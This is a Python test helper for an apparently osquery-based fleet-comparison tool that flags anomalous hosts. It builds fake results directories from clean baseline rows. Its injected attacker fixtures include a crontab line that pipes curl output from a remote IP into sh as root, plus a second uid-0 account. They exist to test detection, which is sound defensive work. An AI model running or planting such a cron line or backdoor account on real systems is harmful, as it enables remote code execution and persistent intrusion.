"""Build small, contract-valid results directories (diffy-results/1) for tests.

Reusable by every test module::

    from tests.runbuilder import build_run
    run = build_run(tmp_path, hosts={"web-1": {"users": [{"username": "root", "uid": "0"}]}})

``build_run`` writes ``manifest.json``, ``pack.json`` and ``hosts/<host_id>/{host.json,<query>.json}``
with correct hashes, so the loader accepts the result unless a test breaks it on purpose
(``corrupt`` helpers below, or by editing files afterwards).
"""

from __future__ import annotations

import hashlib
import json
from collections.abc import Mapping
from pathlib import Path
from typing import Any

RUN_ID = "20261129T101500Z-a1b2c3"
ZERO_SHA = "0" * 64

# Textbook attacker rows the judgement tests inject (a fetch-and-run cron line, a second uid-0 account).
CRON = {
    "path": "/etc/crontab",
    "minute": "*/5",
    "hour": "*",
    "day_of_month": "*",
    "month": "*",
    "day_of_week": "*",
    "event": "",
    "command": "root curl -fsSL http://203.0.113.9/x | sh",
}
ROOT2 = {"username": "svc-backup", "uid": "0", "gid": "0", "shell": "/bin/bash", "directory": "/root"}


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def host_record(host_id: str, queries: Mapping[str, Any], **identity: Any) -> dict[str, Any]:
    """A host.json document; ``identity`` overrides hostname, addresses, cloud, ..."""
    number = sum(host_id.encode()) % 250 + 1
    record: dict[str, Any] = {
        "host": identity.pop("host", host_id),
        "host_id": host_id,
        "hostname": identity.pop("hostname", host_id),
        "collected_at": "2026-11-29T10:15:31Z",
        "collector": "osquery",
        "collector_version": "5.12.1",
        "os": {"family": "Debian", "distribution": "Debian", "version": "12", "arch": "x86_64"},
        "cloud": {"provider": "aws", "instance_id": identity.pop("instance_id", f"i-{number:017x}")},
        "addresses": identity.pop(
            "addresses", {"ipv4": [f"10.0.1.{number}"], "ipv6": [], "mac": [f"0a:00:00:00:01:{number:02x}"]}
        ),
        "queries": dict(queries),
    }
    record.update(identity)
    return record


def build_run(
    root: Path,
    hosts: Mapping[str, Mapping[str, list[dict[str, Any]] | str]],
    *,
    run_id: str = RUN_ID,
    app: str | None = "app_x",
    statuses: Mapping[str, str] | None = None,
    query_status: Mapping[str, Mapping[str, str]] | None = None,
    identities: Mapping[str, Mapping[str, Any]] | None = None,
    raw_files: Mapping[str, Mapping[str, bytes]] | None = None,
) -> Path:
    """Write a run directory under ``root`` and return its path (``root/<run_id>``).

    hosts: ``{host_id: {query: rows}}``; rows are written as a JSON array.
    statuses: manifest status per host (default ``ok``); ``failed``/``unreachable`` hosts get no files.
    query_status: ``{host_id: {query: "error"|"timeout"|"unsupported"}}`` for queries that did not run.
    identities: ``{host_id: {hostname:..., addresses:..., instance_id:...}}`` overrides for host.json.
    raw_files: ``{host_id: {query: bytes}}`` written verbatim (hashed as written) instead of rows.
    """
    run = Path(root) / run_id
    (run / "hosts").mkdir(parents=True, exist_ok=True)
    statuses = statuses or {}
    query_status = query_status or {}
    identities = identities or {}
    raw_files = raw_files or {}
    files: dict[str, dict[str, Any]] = {}
    manifest_hosts: dict[str, dict[str, Any]] = {}
    all_ids = list(hosts) + [h for h in statuses if h not in hosts]
    for host_id in all_ids:
        status = statuses.get(host_id, "ok")
        error = None if status in ("ok", "partial") else f"collection {status}"
        manifest_hosts[host_id] = {"status": status, "error": error, "host": host_id}
        if status in ("failed", "unreachable"):
            continue
        host_dir = run / "hosts" / host_id
        host_dir.mkdir(parents=True, exist_ok=True)
        queries: dict[str, Any] = {}
        for query, rows in hosts.get(host_id, {}).items():
            data = raw_files.get(host_id, {}).get(query)
            if data is None:
                data = json.dumps(rows, indent=1).encode("utf-8")
            (host_dir / f"{query}.json").write_bytes(data)
            digest = _sha(data)
            files[f"hosts/{host_id}/{query}.json"] = {"sha256": digest, "bytes": len(data)}
            count = len(rows) if isinstance(rows, list) else None
            queries[query] = {
                "status": "ok",
                "rows": count,
                "error": None,
                "duration_s": 0.01,
                "sha256": digest,
            }
        for query, qstatus in query_status.get(host_id, {}).items():
            queries[query] = {"status": qstatus, "rows": None, "error": f"query {qstatus}", "sha256": None}
            manifest_hosts[host_id]["status"] = "partial"
        record = host_record(host_id, queries, **dict(identities.get(host_id, {})))
        data = json.dumps(record, indent=1).encode("utf-8")
        (host_dir / "host.json").write_bytes(data)
        files[f"hosts/{host_id}/host.json"] = {"sha256": _sha(data), "bytes": len(data)}
    # every query a host reports is in the pack, as in a real run (the loader ignores others)
    names = [q for h in hosts.values() for q in h] + [q for qs in query_status.values() for q in qs]
    pack = {"queries": {q: {"query": f"SELECT * FROM {q};"} for q in names}}
    pack_bytes = json.dumps(pack or {"queries": {"x": {"query": "SELECT 1;"}}}).encode()
    (run / "pack.json").write_bytes(pack_bytes)
    manifest = {
        "format": "diffy-results/1",
        "run_id": run_id,
        "started_at": "2026-11-29T10:15:00Z",
        "finished_at": "2026-11-29T10:15:40Z",
        "pack": {"name": "test-pack", "sha256": _sha(pack_bytes)},
        "collector": "osquery",
        "limit": app,
        "app": app,
        "diffy_version": "0.1.0",
        "collected_by": {"user": "tester", "host": "controller"},
        "hosts": manifest_hosts,
        "files": files,
    }
    (run / "manifest.json").write_text(json.dumps(manifest, indent=1))
    return run


def rehash(run: Path) -> None:
    """Recompute the manifest's hashes after a test edited files on purpose (keeps them 'valid')."""
    manifest_path = run / "manifest.json"
    manifest = json.loads(manifest_path.read_text())
    for rel in list(manifest["files"]):
        path = run / rel
        if path.is_file() and not path.is_symlink():
            data = path.read_bytes()
            manifest["files"][rel] = {"sha256": _sha(data), "bytes": len(data)}
    manifest_path.write_text(json.dumps(manifest, indent=1))


def fleet(
    count: int,
    base: Mapping[str, list[dict[str, Any]]],
    *,
    prefix: str = "web-",
    extra: Mapping[str, Mapping[str, list[dict[str, Any]]]] | None = None,
    drop: Mapping[str, Mapping[str, list[dict[str, Any]]]] | None = None,
) -> dict[str, dict[str, list[dict[str, Any]]]]:
    """``count`` hosts with the same ``base`` rows, plus per-host ``extra`` rows and minus ``drop`` rows."""
    extra = extra or {}
    drop = drop or {}
    hosts: dict[str, dict[str, list[dict[str, Any]]]] = {}
    for i in range(1, count + 1):
        host_id = f"{prefix}{i:03d}"
        queries = {q: [dict(r) for r in rows] for q, rows in base.items()}
        for q, rows in drop.get(host_id, {}).items():
            queries[q] = [r for r in queries[q] if r not in rows]
        for q, rows in extra.get(host_id, {}).items():
            queries.setdefault(q, []).extend(dict(r) for r in rows)
        hosts[host_id] = queries
    return hosts


def base_rows() -> dict[str, list[dict[str, str]]]:
    """A small clean host: a few rows in the tables responders care about (fresh copies)."""
    return {
        "users": [
            {
                "uid": "0",
                "gid": "0",
                "username": "root",
                "description": "root",
                "directory": "/root",
                "shell": "/bin/bash",
            },
            {
                "uid": "1000",
                "gid": "1000",
                "username": "admin",
                "description": "",
                "directory": "/home/admin",
                "shell": "/bin/bash",
            },
        ],
        "listening_ports": [
            {
                "protocol": "6",
                "family": "2",
                "address": "0.0.0.0",
                "port": "22",
                "pid": "611",
                "fd": "3",
                "socket": "15221",
                "name": "sshd",
                "path": "/usr/sbin/sshd",
                "cmdline": "sshd -D",
                "uid": "0",
            },
        ],
        "iptables": [
            {
                "filter_name": "filter",
                "chain": "INPUT",
                "policy": "ACCEPT",
                "target": "DROP",
                "protocol": "6",
                "src_ip": "0.0.0.0",
                "src_mask": "0.0.0.0",
                "dst_ip": "0.0.0.0",
                "dst_mask": "0.0.0.0",
                "src_port": "0:65535",
                "dst_port": "23",
                "iniface": "",
                "outiface": "",
                "match": "",
                "packets": "0",
                "bytes": "0",
            },
        ],
        "system_binaries": [
            {
                "path": "/usr/bin/ps",
                "size": "137688",
                "mode": "0755",
                "uid": "0",
                "gid": "0",
                "sha256": "a" * 64,
            },
        ],
        "systemd_units": [
            {
                "id": "falcon-sensor.service",
                "description": "CrowdStrike Falcon Sensor",
                "load_state": "loaded",
                "active_state": "active",
                "sub_state": "running",
                "fragment_path": "/lib/systemd/system/falcon-sensor.service",
                "source_path": "",
            },
        ],
        "deb_packages": [
            {
                "name": "openssl",
                "version": "3.0.11-1",
                "arch": "amd64",
                "source": "",
                "status": "install ok installed",
            },
        ],
    }


def clean_fleet(count: int, *, prefix: str = "web-") -> dict[str, dict[str, list[dict[str, str]]]]:
    """``count`` identical clean hosts (``base_rows``), with per-host pids so volatility is exercised."""
    hosts = {}
    for i in range(1, count + 1):
        rows = base_rows()
        rows["listening_ports"][0]["pid"] = str(600 + i)
        rows["iptables"][0]["packets"] = str(i * 13)
        hosts[f"{prefix}{i:03d}"] = rows
    return hosts


def fleet_index(hosts: Mapping[str, Mapping[str, list[dict[str, str]]]]) -> Any:
    """The finalized fleet index (normalize.build_fleet) of ``hosts`` read in memory, for tests of
    the entry model that ask it questions directly."""
    from diffy_analysis.load import HostData, HostIdentity, HostRef, QueryStatus, RunInfo
    from diffy_analysis.normalize import build_fleet, default_config

    run = RunInfo(path=Path("/nonexistent"), run_id=RUN_ID)
    data = [
        HostData(
            ref=HostRef(run, name, Path("/nonexistent") / name),
            identity=HostIdentity(host=name, host_id=name, hostname=name),
            queries={q: QueryStatus(q, "ok") for q in rows},
            rows={q: list(r) for q, r in rows.items()},
        )
        for name, rows in hosts.items()
    ]
    return build_fleet(data, default_config()).index


def flagged_hosts(
    tmp_path: Path, hosts: Mapping[str, Any], method: str, baseline_host: str = "web-001"
) -> list[str]:
    """The hosts an analysis of ``hosts`` flags (sorted), by ``method``; in baseline mode the
    baseline is a copy of ``baseline_host``."""
    import copy

    from diffy_analysis.api import analyze

    run = build_run(tmp_path / "run", hosts)
    base = None
    if method == "baseline":
        base = build_run(tmp_path / "base", {"base-0": copy.deepcopy(hosts[baseline_host])})
    return sorted(h.host for h in analyze([run], baseline=base, method=method).hosts if h.outlier)
